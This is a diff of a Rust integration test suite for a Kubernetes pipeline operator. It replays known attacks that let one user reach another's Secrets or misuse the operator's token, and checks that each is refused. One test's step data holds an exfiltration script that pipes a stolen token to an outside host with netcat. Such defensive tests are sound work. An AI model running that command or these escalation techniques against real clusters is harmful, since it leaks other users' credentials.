@@ -1,16 +1,13 @@
-//! Attacks that once gave one user the credentials of another, or the operator's token too much. Each is
-//! repeated against a cluster with the chart and a running operator, and fails. `grace` may do all that
-//! the role `edit` allows and run what she likes, but reads no Secret.
-#![expect(
-    clippy::unwrap_used,
-    reason = "the helpers of tests may do what tests may do"
-)]
+//! Attacks that once gave a user the credentials of another, or extended the operator's token. Each is
+//! repeated on a cluster with the chart and a running operator, and must fail. `grace` has the role `edit`
+//! and may start any run, but cannot read Secrets.
+#![expect(clippy::unwrap_used, reason = "helpers of tests")]
 
 #[path = "support/identity.rs"]
 mod identity;
-#[path = "support/people.rs"]
-mod people;
 mod support;
+#[path = "support/users.rs"]
+mod users;
 
 use std::time::Duration;
 
@@ -23,17 +20,17 @@ use identity::{
 };
 use kube::Client;
 use kube::api::{DeleteParams, Patch, PatchParams, PostParams, PropagationPolicy};
-use people::{create, create_dry, objects, of_kubeconfig, person};
 use serde_json::{Value, json};
-use support::{Lab, condition, eventually, record, secret_name, section, text, workflow};
+use support::{TestEnv, condition, eventually, record, secret_name, section, text, workflow};
+use users::{client_from_kubeconfig, create, create_dry, impersonate, objects};
 
 struct Scene {
-    lab: Lab,
+    env: TestEnv,
     ada: Client,
     grace: Client,
     engine: Client,
     admin: Client,
-    /// Of `ada`.
+    /// Name of the rendered Secret of `ada`.
     secret: String,
 }
 
@@ -45,58 +42,58 @@ async fn known_attacks_fail() {
     };
     let cluster = Cluster::start(options).await.unwrap();
     let installed = Installed::without_webhook(&cluster).unwrap();
-    let lab = Lab::begin(cluster, installed, "findings", &[]);
-    lab.namespace(PROJECT);
-    lab.cluster.apply(RIGHTS).unwrap();
-    lab.apply(&user_record()).await;
+    let env = TestEnv::begin(cluster, installed, "findings", &[]);
+    env.namespace(PROJECT);
+    env.cluster.apply(RIGHTS).unwrap();
+    env.apply(&user_record()).await;
     let mut scene = Scene {
-        ada: person(&lab.cluster, "ada", &[TEAM]),
-        grace: person(&lab.cluster, "grace", &[TEAM]),
-        engine: person(&lab.cluster, ENGINE, &["system:masters"]),
-        admin: lab.cluster.client(),
+        ada: impersonate(&env.cluster, "ada", &[TEAM]),
+        grace: impersonate(&env.cluster, "grace", &[TEAM]),
+        engine: impersonate(&env.cluster, ENGINE, &["system:masters"]),
+        admin: env.cluster.client(),
         secret: String::new(),
-        lab,
+        env,
     };
     create(&scene.ada, &user_workflow("train"), &PostParams::default())
         .await
         .unwrap();
-    scene.secret = secret_of(&scene.lab.ready(PROJECT, "train").await);
-    a_workflow_that_names_the_secret_gets_no_value(&scene).await;
-    names_that_the_engine_fills_in_start_nothing(&scene).await;
-    an_orphaned_pipeline_gives_nothing(&scene).await;
-    fetched_tasks_give_nothing(&scene).await;
-    the_operators_token_changes_no_foreign_pipeline(&scene).await;
-    a_replaced_secret_is_a_conflict(&scene).await;
-    an_orphaned_projection_leaves_no_secret(&scene).await;
-    the_status_of_a_run_is_not_written(&scene).await;
-    scene.lab.stop().await;
+    scene.secret = secret_of(&scene.env.ready(PROJECT, "train").await);
+    secret_named_in_a_workflow_yields_no_value(&scene).await;
+    names_with_parameters_bypass_no_policy(&scene).await;
+    orphaned_pipeline_yields_no_secret(&scene).await;
+    fetched_tasks_yield_no_secret(&scene).await;
+    operator_token_cannot_change_foreign_pipelines(&scene).await;
+    replaced_secret_is_a_conflict(&scene).await;
+    orphaned_projection_leaves_no_secret(&scene).await;
+    status_of_run_cannot_be_written(&scene).await;
+    scene.env.stop().await;
 }
 
-async fn a_workflow_that_names_the_secret_gets_no_value(scene: &Scene) {
-    section("a workflow that names the Secret of another user gets no value of it");
+async fn secret_named_in_a_workflow_yields_no_value(scene: &Scene) {
+    section("a workflow that names the Secret of another user gets no value");
     let mut thief = workflow(PROJECT, "thief", &json!({}));
     let from = json!({"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}});
     thief["spec"]["steps"] =
         json!([{"name": "train", "image": "i", "env": [{"name": "T", "valueFrom": from}]}]);
-    // Refused, or stored: its run is another user's in either case.
+    // Refused or stored: in both cases the run belongs to another user.
     match create(&scene.grace, &thief, &PostParams::default()).await {
-        Err(said) => assert!(said.contains("ext-"), "{said}"),
+        Err(message) => assert!(message.contains("ext-"), "{message}"),
         Ok(()) => {
             scene
-                .lab
+                .env
                 .until(("Workflow", PROJECT, "thief"), "is reconciled", |object| {
                     !condition(object, "Ready")["status"].is_null()
                 })
                 .await;
         }
     }
-    no_pod_for_grace(&scene.lab, &scene.secret).await;
+    no_pod_for_grace(&scene.env, &scene.secret).await;
 }
 
-async fn names_that_the_engine_fills_in_start_nothing(scene: &Scene) {
-    section("names that the engine fills in lead to nothing that the names themselves do not");
-    let lab = &scene.lab;
-    lab.apply(&record("attack", &json!([{"name": "all"}])))
+async fn names_with_parameters_bypass_no_policy(scene: &Scene) {
+    section("names with parameters do not bypass the policies");
+    let env = &scene.env;
+    env.apply(&record("attack", &json!([{"name": "all"}])))
         .await;
     create(
         &scene.ada,
@@ -105,9 +102,10 @@ async fn names_that_the_engine_fills_in_start_nothing(scene: &Scene) {
     )
     .await
     .unwrap();
-    lab.ready(PROJECT, "held").await;
-    lab.delete("ClusterExtension", "", "attack").await;
-    lab.refused_again(PROJECT, "held", "NotFound").await;
+    env.ready(PROJECT, "held").await;
+    env.delete("ClusterExtension", "", "attack").await;
+    env.refused_without_spec_change(PROJECT, "held", "NotFound")
+        .await;
     let param = |name: &str, value: &str| json!({"name": name, "value": value});
     let resolver =
         |params: Value| json!({"pipelineRef": {"resolver": "cluster", "params": params}});
@@ -139,29 +137,29 @@ async fn names_that_the_engine_fills_in_start_nothing(scene: &Scene) {
             Duration::from_secs(10),
             "the run is refused",
             async || match create_dry(&scene.grace, &run).await {
-                Err(said) if said.contains("on hold") => Ok(()),
+                Err(message) if message.contains("on hold") => Ok(()),
                 other => Err(format!("{other:?}")),
             },
         )
         .await;
     }
-    // Where nothing is held such a run starts, and its Pods get nothing.
-    no_pod_for_grace(&scene.lab, &scene.secret).await;
-    lab.delete("Workflow", PROJECT, "held").await;
+    // If nothing is held, such a run starts, and its Pods get no Secret.
+    no_pod_for_grace(&scene.env, &scene.secret).await;
+    env.delete("Workflow", PROJECT, "held").await;
 }
 
-async fn an_orphaned_pipeline_gives_nothing(scene: &Scene) {
-    section("the Pipeline of an orphaned workflow is held, and gives another user nothing");
-    let lab = &scene.lab;
+async fn orphaned_pipeline_yields_no_secret(scene: &Scene) {
+    section("the Pipeline of an orphaned workflow is held, and yields no Secret to another user");
+    let env = &scene.env;
     create(&scene.ada, &user_workflow("left"), &PostParams::default())
         .await
         .unwrap();
-    lab.ready(PROJECT, "left").await;
-    // The collector of garbage learns of new kinds each half minute.
+    env.ready(PROJECT, "left").await;
+    // The garbage collector discovers new kinds every 30 seconds.
     eventually(
         Duration::from_mins(2),
         "the collector knows Pipelines",
-        async || match lab.get("Pipeline", PROJECT, "held").await {
+        async || match env.get("Pipeline", PROJECT, "held").await {
             Value::Null => Ok(()),
             pipeline => Err(pipeline.to_string()),
         },
@@ -182,23 +180,23 @@ async fn an_orphaned_pipeline_gives_nothing(scene: &Scene) {
         Duration::from_mins(1),
         "the run is refused",
         async || match create_dry(&scene.grace, &run("left")).await {
-            Err(said) if said.contains("(Orphaned)") => Ok(()),
+            Err(message) if message.contains("(Orphaned)") => Ok(()),
             other => Err(format!("{other:?}")),
         },
     )
     .await;
-    no_pod_for_grace(&scene.lab, &scene.secret).await;
+    no_pod_for_grace(&scene.env, &scene.secret).await;
 }
 
-async fn fetched_tasks_give_nothing(scene: &Scene) {
-    section("what is fetched from elsewhere runs as the user who started the run");
+async fn fetched_tasks_yield_no_secret(scene: &Scene) {
+    section("fetched tasks run as the user who started the run");
     let git =
         json!({"resolver": "git", "params": [{"name": "url", "value": "https://git.example.org"}]});
     let mut fetched = run("x");
     fetched["spec"] = json!({"pipelineRef": git});
     fetched["metadata"]["annotations"] = json!({RUN_BY_ANNOTATION: "ada"});
     assert_eq!(user_of_run(&scene.grace, &fetched).await, "grace");
-    // The engine admits what it fetched with a dry run.
+    // The engine validates fetched tasks with a dry run.
     let metadata = json!({"annotations": {RUN_BY_ANNOTATION: "ada"}});
     for spec in [
         json!({"tasks": [{"name": "t", "taskSpec": {"metadata": metadata, "steps": []}}]}),
@@ -208,8 +206,8 @@ async fn fetched_tasks_give_nothing(scene: &Scene) {
             "apiVersion": "tekton.dev/v1", "kind": "Pipeline", "spec": spec,
             "metadata": {"namespace": PROJECT, "name": "fetched", "annotations": metadata["annotations"]},
         });
-        let said = create_dry(&scene.engine, &pipeline).await.unwrap_err();
-        assert!(said.contains("reserved for runs"), "{said}");
+        let message = create_dry(&scene.engine, &pipeline).await.unwrap_err();
+        assert!(message.contains("reserved for runs"), "{message}");
     }
 
     section("no resolver sends the Secret elsewhere");
@@ -223,13 +221,16 @@ async fn fetched_tasks_give_nothing(scene: &Scene) {
         "apiVersion": "resolution.tekton.dev/v1beta1", "kind": "ResolutionRequest",
         "metadata": {"namespace": PROJECT, "name": "http"}, "spec": {"params": params},
     });
-    let said = create_dry(&scene.engine, &request).await.unwrap_err();
-    assert!(said.contains("is not available to resolvers"), "{said}");
+    let message = create_dry(&scene.engine, &request).await.unwrap_err();
+    assert!(
+        message.contains("is not available to resolvers"),
+        "{message}"
+    );
 }
 
-async fn the_operators_token_changes_no_foreign_pipeline(scene: &Scene) {
-    section("a stolen token of the operator changes no foreign Pipeline and no run");
-    let token = of_kubeconfig(scene.lab.installed.kubeconfig()).await;
+async fn operator_token_cannot_change_foreign_pipelines(scene: &Scene) {
+    section("a stolen token of the operator cannot change foreign Pipelines or runs");
+    let token = client_from_kubeconfig(scene.env.installed.kubeconfig()).await;
     let foreign = json!({
         "apiVersion": "tekton.dev/v1", "kind": "Pipeline",
         "metadata": {"namespace": PROJECT, "name": "foreign"}, "spec": {"tasks": []},
@@ -271,21 +272,21 @@ async fn the_operators_token_changes_no_foreign_pipeline(scene: &Scene) {
         let mut applied = patch.clone();
         applied["apiVersion"] = json!("tekton.dev/v1");
         applied["kind"] = json!(kind);
-        for said in [
+        for message in [
             api.patch(name, &PatchParams::default(), &Patch::Merge(patch))
                 .await,
             api.patch(name, &force, &Patch::Apply(&applied)).await,
         ] {
-            let said = said.unwrap_err().to_string();
-            assert!(said.contains(expected), "{kind}: {said}");
+            let message = message.unwrap_err().to_string();
+            assert!(message.contains(expected), "{kind}: {message}");
         }
     }
 }
 
-async fn a_replaced_secret_is_a_conflict(scene: &Scene) {
-    section("a foreign Secret does not take the place of a rendered one");
-    let lab = &scene.lab;
-    lab.apply(&record(
+async fn replaced_secret_is_a_conflict(scene: &Scene) {
+    section("a foreign Secret does not replace a rendered one");
+    let env = &scene.env;
+    env.apply(&record(
         "store",
         &json!([{"name": "main", "configuration": [{"name": "KEY", "value": "v"}]}]),
     ))
@@ -297,54 +298,59 @@ async fn a_replaced_secret_is_a_conflict(scene: &Scene) {
     )
     .await
     .unwrap();
-    lab.ready(PROJECT, "stores").await;
+    env.ready(PROJECT, "stores").await;
     let name = secret_name("store", "main");
     let foreign = json!({
         "apiVersion": "v1", "kind": "Secret", "type": "servicebinding.io/s3",
         "metadata": {"namespace": PROJECT, "name": name}, "stringData": {"KEY": "mine"},
     });
-    lab.delete("Secret", PROJECT, &name).await;
-    let said = create_dry(&scene.admin, &foreign).await.unwrap_err();
-    assert!(said.contains("or the name of a rendered Secret"), "{said}");
+    env.delete("Secret", PROJECT, &name).await;
+    let message = create_dry(&scene.admin, &foreign).await.unwrap_err();
+    assert!(
+        message.contains("or the name of a rendered Secret"),
+        "{message}"
+    );
 
     section(
-        "where the policy is lifted, the workflow is not ready until the Secret is the operator's again",
+        "without the policy, the workflow is not ready until the operator owns the Secret again",
     );
-    let binding = lab.lift_policy("managed-secrets");
+    let binding = env.lift_policy("managed-secrets");
     eventually(
         Duration::from_secs(20),
         "the policy is lifted",
         async || create(&scene.admin, &foreign, &PostParams::default()).await,
     )
     .await;
-    // A run has the operator check its Secrets.
+    // A new run makes the operator check its Secrets.
     let mut check = run("stores");
     check["metadata"]["name"] = json!("checks");
     create(&scene.ada, &check, &PostParams::default())
         .await
         .unwrap();
-    lab.refused_again(PROJECT, "stores", "SecretConflict").await;
-    let projection = lab.get("ExtensionProjection", PROJECT, &name).await;
+    env.refused_without_spec_change(PROJECT, "stores", "SecretConflict")
+        .await;
+    let projection = env.get("ExtensionProjection", PROJECT, &name).await;
     assert_eq!(condition(&projection, "Ready")["reason"], "SecretConflict");
     assert!(projection["status"]["secret"].is_null(), "{projection}");
-    let gate = lab.get("RunGate", PROJECT, "extension-registry").await;
+    let gate = env.get("RunGate", PROJECT, "extension-registry").await;
     assert_eq!(gate["spec"]["heldPipelines"]["stores"], "SecretConflict");
-    // It does not heal by itself.
-    lab.settled(&["Workflow", "ExtensionProjection"]).await;
-    lab.refused_again(PROJECT, "stores", "SecretConflict").await;
-    lab.cluster.apply(&binding).unwrap();
-    lab.delete("Secret", PROJECT, &name).await;
-    lab.ready(PROJECT, "stores").await;
-    let rendered = lab.get("Secret", PROJECT, &name).await;
+    // The conflict does not resolve by itself.
+    env.settled(&["Workflow", "ExtensionProjection"]).await;
+    env.refused_without_spec_change(PROJECT, "stores", "SecretConflict")
+        .await;
+    env.cluster.apply(&binding).unwrap();
+    env.delete("Secret", PROJECT, &name).await;
+    env.ready(PROJECT, "stores").await;
+    let rendered = env.get("Secret", PROJECT, &name).await;
     assert_eq!(
         rendered["metadata"]["ownerReferences"][0]["kind"],
         "ExtensionProjection"
     );
 }
 
-async fn an_orphaned_projection_leaves_no_secret(scene: &Scene) {
-    section("no deletion of a projection leaves its Secret behind");
-    let lab = &scene.lab;
+async fn orphaned_projection_leaves_no_secret(scene: &Scene) {
+    section("a projection cannot be deleted without its Secret");
+    let env = &scene.env;
     let delete = [
         "delete",
         "extp",
@@ -353,45 +359,45 @@ async fn an_orphaned_projection_leaves_no_secret(scene: &Scene) {
         PROJECT,
         "--cascade=orphan",
     ];
-    let said = lab.cluster.kubectl_run(&delete).unwrap_err().to_string();
+    let message = env.cluster.kubectl_run(&delete).unwrap_err().to_string();
     assert!(
-        said.contains("delete it without --cascade=orphan"),
-        "{said}"
+        message.contains("delete it without --cascade=orphan"),
+        "{message}"
     );
     let secrets = objects(&scene.admin, "v1", "Secret", PROJECT);
     let stripped = Patch::Merge(json!({"metadata": {"ownerReferences": []}}));
-    let said = secrets
+    let message = secrets
         .patch(&scene.secret, &PatchParams::default(), &stripped)
         .await;
-    let said = said.unwrap_err().to_string();
+    let message = message.unwrap_err().to_string();
     assert!(
-        said.contains("metadata.ownerReferences: a rendered Secret"),
-        "{said}"
+        message.contains("metadata.ownerReferences: a rendered Secret"),
+        "{message}"
     );
-    let owner = &lab.get("Secret", PROJECT, &scene.secret).await["metadata"]["ownerReferences"][0];
+    let owner = &env.get("Secret", PROJECT, &scene.secret).await["metadata"]["ownerReferences"][0];
     assert_eq!(text(&owner["name"]), scene.secret);
 }
 
-async fn the_status_of_a_run_is_not_written(scene: &Scene) {
-    section("what a run of another user does is not changed through its status");
-    let mut hers = run("train");
-    hers["metadata"]["name"] = json!("hers");
-    create(&scene.ada, &hers, &PostParams::default())
+async fn status_of_run_cannot_be_written(scene: &Scene) {
+    section("the status of a run cannot change what it executes");
+    let mut ada_run = run("train");
+    ada_run["metadata"]["name"] = json!("hers");
+    create(&scene.ada, &ada_run, &PostParams::default())
         .await
         .unwrap();
-    let env = json!([{"name": "T", "valueFrom": {"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}}}]);
-    let step = json!({"name": "s", "image": "i", "env": env, "script": "echo $T | nc grace.example.org 80"});
+    let variables = json!([{"name": "T", "valueFrom": {"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}}}]);
+    let step = json!({"name": "s", "image": "i", "env": variables, "script": "echo $T | nc grace.example.org 80"});
     let status = json!({"status": {"pipelineSpec": {"tasks": [{"name": "t", "taskSpec": {"steps": [step]}}]}}});
     for client in [&scene.grace, &scene.admin] {
         let runs = objects(client, "tekton.dev/v1", "PipelineRun", PROJECT);
-        let said = runs
+        let message = runs
             .patch_status("hers", &PatchParams::default(), &Patch::Merge(&status))
             .await
             .unwrap_err()
             .to_string();
         assert!(
-            said.contains("only the pipeline engine can write the status"),
-            "{said}"
+            message.contains("only the pipeline engine can write the status"),
+            "{message}"
         );
     }
 }
